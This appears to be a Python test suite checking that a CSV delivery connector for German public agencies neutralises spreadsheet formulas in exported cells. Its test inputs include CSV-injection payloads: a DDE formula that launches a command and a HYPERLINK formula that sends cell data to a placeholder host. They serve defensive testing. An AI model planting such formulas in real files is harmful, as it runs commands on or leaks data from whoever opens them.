"""CSV injection: no text from one agency's export runs as a formula when another agency
opens its delivered CSV in a spreadsheet (OWASP "CSV Injection", docs/delivery.md).

Property: read back with Python's csv module (``;``, as the files are documented), no cell
starts with ``= + - @``, tab or carriage return, also not after leading white space, unless
it is the neutralised form: a ``'`` before the value. Taking one leading ``'`` off every cell
that has one gives back exactly the event's values.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from connectors.delivery.csvfile import (
    COLUMNS,
    csv_cell,
    envelope_row,
    neutralise_formula,
    render_csv,
    restore_cell,
)
from connectors.ingest import convert_file
from hub.agencies import load_agencies
from hub.contract.models import Envelope
from hub.contract.vocabulary import EventType
from tests.contract.examples import example_envelope
from tests.contract.strategies import FORMULA_STARTS, envelopes, formulas, hostile_text
from tests.exports import (
    CONSENT_COLUMNS,
    HEALTH_COLUMNS,
    JOBCENTER_COLUMNS,
    SCHOOL_COLUMNS,
    YOUTH_OFFICE_COLUMNS,
    consent_row,
    health_row,
    jobcenter_row,
    school_row,
    write_export,
    youth_office_row,
)

SOME = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)


def read_back(content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8")
    reader = csv.DictReader(io.StringIO(text, newline=""), delimiter=";")
    assert tuple(reader.fieldnames) == COLUMNS
    return list(reader)


def assert_safe(envelopes_: list[Envelope]) -> None:
    rows = read_back(render_csv(envelopes_))
    assert len(rows) == len(envelopes_)
    for envelope, row in zip(envelopes_, rows, strict=True):
        assert None not in row  # no value broke out into a column of its own
        written = envelope_row(envelope)
        for column, cell in row.items():
            if runs_as_formula(cell) or cell.startswith("'"):
                assert cell == "'" + written[column], (column, cell)
                assert not runs_as_formula(cell)
            assert restore_cell(cell) == written[column], (column, cell)


# -------------------------------------------------------------------------- properties
@SOME
@given(st.lists(envelopes(), min_size=1, max_size=3))
def test_no_cell_of_a_delivered_file_runs_as_a_formula(events):
    assert_safe(events)


@SOME
@given(hostile_text)
@example('=HYPERLINK("http://example.invalid/?"&A1;"Klick")')
@example("=cmd|' /C calc'!A0")
@example("@SUM(1+1)*cmd|' /C calc'!A0")
@example('=1+2";=1+2')
@example("\t=1+1")
@example("\r=1+1")
@example(" =1+1")
@example("'=1+1")
@example("-1")
@example("+49 2303 27-0")
@example("")
def test_any_cell_text(text):
    cell = csv_cell(text)
    (row,) = csv.reader(io.StringIO(f"{cell};next\r\n", newline=""), delimiter=";")
    assert len(row) == 2 and row[1] == "next"  # nothing broke out of the cell
    assert not runs_as_formula(row[0])
    assert restore_cell(row[0]) == text
    assert (row[0] == text) == (neutralise_formula(text) == text)


# ---------------------------------------------------------- from agency exports, end to end
EXPORTS = [
    ("jugendamt-kamen_export.csv", YOUTH_OFFICE_COLUMNS, youth_office_row,
     {"Ereignis": "Angebot angenommen", "Zielstelle": ""}, ("Angebot",), "Vorgangsnummer"),
    ("jugendamt-kamen_export.csv", YOUTH_OFFICE_COLUMNS, youth_office_row, {},
     ("Uebergabe-ID",), "Vorgangsnummer"),
    ("grundschule-kamen-mitte_export.csv", SCHOOL_COLUMNS, school_row, {}, ("Bezug",),
     "Schüler-ID"),
    ("gesundheitsamt-kreis-unna_export.csv", HEALTH_COLUMNS, health_row,
     {"Art": "Angebot angenommen", "Zweck": "Frühe Hilfen"}, ("Ergebnis",),
     "Untersuchungs-Nr"),
    ("jobcenter-kreis-unna_export.csv", JOBCENTER_COLUMNS, jobcenter_row, {},
     ("Uebergabe-ID",), "BG-Nummer"),
    ("einwilligungen_jugendamt-kamen.csv", CONSENT_COLUMNS, consent_row, {},
     ("Einwilligungs-ID",), "Einwilligungs-ID"),
]
"""(file, columns, row, fixed values, the columns whose text reaches the delivered file,
the record id column)."""


@pytest.fixture(scope="module")
def export_dir(tmp_path_factory):
    return tmp_path_factory.mktemp("injection")


@pytest.mark.parametrize("case", EXPORTS, ids=[f"{c[0].split('_')[0]}:{c[4][0]}"
                                                for c in EXPORTS])
@settings(max_examples=30, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.one_of(formulas, hostile_text), min_size=1, max_size=6))
def test_formulas_in_an_export_never_run_in_the_delivered_file(export_dir, pseudonym_key,
                                                               case, texts):
    """Formulas in every text column an export carries into events (offer names, handover
    and consent ids): the events that pass the connector's checks are delivered safely."""
    file_name, columns, make_row, fixed, carried, record = case
    rows = []
    for i, text in enumerate(texts):
        row = make_row(**fixed)
        for column in carried:
            row[column] = text
        if record not in carried:
            row[record] = f"{text[:1]}R-{i}"
        rows.append(row)
    path = export_dir / file_name
    with open(path, "w", encoding="utf-8", newline="") as out:  # quoted as CSV needs it
        writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
        writer.writerow(columns)
        writer.writerows([row.get(c, "") for c in columns] for row in rows)
    result = convert_file(path, load_agencies(), pseudonym_key)
    assert len(result.events) + len(result.rejected) + result.duplicates \
        + result.conversion.summary.superseded == len(rows)
    assert_safe(result.events)


def test_an_offer_named_like_a_formula_from_an_export(export_dir, pseudonym_key):
    row = youth_office_row(Ereignis="Angebot angenommen", Zielstelle="",
                           Angebot="=HYPERLINK(\"http://x.invalid\")", **{"Uebergabe-ID": ""})
    path = write_export(export_dir / "jugendamt-kamen_export.csv", [row])
    (event,) = convert_file(path, load_agencies(), pseudonym_key).events
    content = render_csv([event])
    assert b'"\'=HYPERLINK(""http://x.invalid"")"' in content
    (read,) = read_back(content)
    assert read["Angebot"] == "'=HYPERLINK(\"http://x.invalid\")"


# -------------------------------------------------------------------- the documented rules
@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "\"'=1+1\""),
    ("+1", "\"'+1\""),
    ("-1", "\"'-1\""),  # no column is numeric: a leading - is never a sign here
    ("@x", "\"'@x\""),
    ("\t=1", "\"'\t=1\""),
    ("\r=1", "\"'\r=1\""),
    (" =1", "\"' =1\""),  # spreadsheets may trim leading spaces on import
    ("'abc", "\"''abc\""),  # so that taking one ' off always gives back the value
    ('=1";=2', "\"'=1\"\";=2\""),
    ("Kurs A-B", "Kurs A-B"),
    ("UE-KAM-0001", "UE-KAM-0001"),
    ("Eltern; Kind", '"Eltern; Kind"'),
    ("", ""),
])
def test_cells(value, cell):
    assert csv_cell(value) == cell


def test_contract_values_are_never_neutralised():
    """Dates, times, ids, pseudonyms and the vocabulary never start like a formula: only
    values from outside (offer names, handover and consent ids) can be neutralised."""
    for event_type in EventType:
        envelope = example_envelope(event_type, with_optional=True)
        row = envelope_row(envelope)
        assert all(neutralise_formula(v) == v for v in row.values()), row
